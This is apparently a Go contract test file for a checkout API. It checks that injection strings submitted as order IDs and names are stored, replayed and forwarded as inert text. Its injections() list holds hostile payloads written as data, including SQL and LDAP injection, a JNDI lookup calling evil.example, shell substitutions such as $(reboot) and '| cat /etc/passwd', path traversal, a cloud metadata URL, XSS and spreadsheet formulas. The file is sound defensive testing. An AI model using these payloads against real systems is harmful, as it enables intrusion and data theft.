package contract_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// untouched checks that refused requests had no effect: no record, no event, no panic, no failure.
func untouched(t *testing.T, s *suite) {
	t.Helper()
	if stored := s.Records(t); len(stored) != 0 {
		t.Errorf("%d checkouts are on record: %+v", len(stored), stored[0].Checkout)
	}
	if sent := s.Receiver.Deliveries(); len(sent) != 0 {
		t.Errorf("events were sent: %q", names(sent))
	}
	calm(t, s)
}

// calm checks that the log has no failure.
func calm(t *testing.T, s *suite) {
	t.Helper()
	for line := range strings.SplitSeq(s.Log.String(), "\n") {
		if strings.Contains(line, `"level":"ERROR"`) || strings.Contains(line, "panic") {
			t.Errorf("logged %s", line)
		}
	}
}

// quoted returns a string as JSON.
func quoted(text string) string {
	raw, err := json.Marshal(text)
	if err != nil {
		panic(err) // strings always marshal
	}
	return string(raw)
}

// injections returns texts that have an effect where they are not treated as text.
func injections() []string {
	return []string{`'; DROP TABLE checkouts; --`, `' OR '1'='1`, `" OR ""="`, `1) UNION SELECT * FROM keys --`, `\' OR 1=1 #`,
		`Robert'); DELETE FROM providers;--`, `O'Connor%' AND Name LIKE '_`, `*)(uid=*))(|(uid=*`, `admin)(&)`, `%s%n%x%d`, `%!(EXTRA)`,
		`{{.Token}}`, `${jndi:ldap://evil.example/a}`, `#{7*7}`, `<%= 7*7 %>`, `$(reboot)`, "`id`", `| cat /etc/passwd`, `; ls &`,
		`../../../../etc/passwd`, `..\..\windows`, `file:///etc/passwd`, `http://169.254.169.254/`, `=cmd|' /C calc'!A0`, `+1+1`, `-2+3`,
		`@SUM(1)`, `<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `"><svg onload=x>`, `javascript:alert(1)`, `&lt;b&gt;`,
		`<!--`, `]]>`, `\u0041\n`, `%0d%0aX-Admin: 1`, `null`, `undefined`, `true`, `NaN`, `0x1F`, `__proto__`, `Ṫ̈ḧ̈ë`,
		"\U0001F469\u200d\U0001F4BB", `ʻŌtautahi — “Ngāi Tahu”`}
}

// unreadable are texts that look different from their characters. Identifiers may contain them, names may not.
var unreadable = []string{"a\u202eb\u2066c", "line\u2028line", "\ufffe\U0010ffff"}

func TestContract2AnInjectionIsStoredInertlyAndComesBackUnchanged(t *testing.T) {
	contract(t, func(t *testing.T, s *suite) {
		all := append(injections(), unreadable...)
		nameOf := func(text string) string {
			if slices.Contains(unreadable, text) {
				return "Wiremu"
			}
			return text
		}
		for _, text := range all {
			body := set(t, order(legacyCreate, "ORDER"), "provider.provider_order_id", quoted(text))
			for _, field := range []string{"student.first_name", "student.last_name", "course.course_name"} {
				body = set(t, body, field, quoted(nameOf(text)))
			}
			r := s.Post(t, "TUI", "/v1/provider-checkouts", body)
			if r.Status != http.StatusCreated || r.At("provider.provider_order_id") != text {
				t.Errorf("%q is answered %d %s", text, r.Status, r.Body)
				continue
			}
			again := s.Post(t, "TUI", "/v1/provider-checkouts", body)
			if again.Status != http.StatusOK || again.At("idempotency_key") != "TUI:"+text || again.At("checkout.checkout_id") != r.At("checkout.checkout_id") {
				t.Errorf("%q is replayed %d %s", text, again.Status, again.Body)
			}
		}
		stored, sent := s.Records(t), s.Receiver.Deliveries()
		if len(stored) != len(all) || len(sent) != len(all) {
			t.Fatalf("%d checkouts and %d events, want %d", len(stored), len(sent), len(all))
		}
		for i, text := range all {
			c := s.record(t, text).Checkout
			name := nameOf(text)
			if c.OrderID != text || c.Student.FirstName != name || c.Student.LastName != name || c.Intent.CourseName != name {
				t.Errorf("%q is on record as %+v", text, c)
			}
			if sent[i].JSON.At("data.provider_order_id") != text {
				t.Errorf("%q is sent as %s", text, sent[i].Body)
			}
		}
		for line := range strings.SplitSeq(strings.TrimSpace(s.Log.String()), "\n") {
			var fields map[string]any // the order's id is named, as a value like any other
			err := json.Unmarshal([]byte(line), &fields)
			delete(fields, "provider_order_id")
			if err != nil || strings.Contains(fmt.Sprint(fields), "DROP TABLE") {
				t.Errorf("logged %s", line)
			}
		}
		calm(t, s)
	})
}
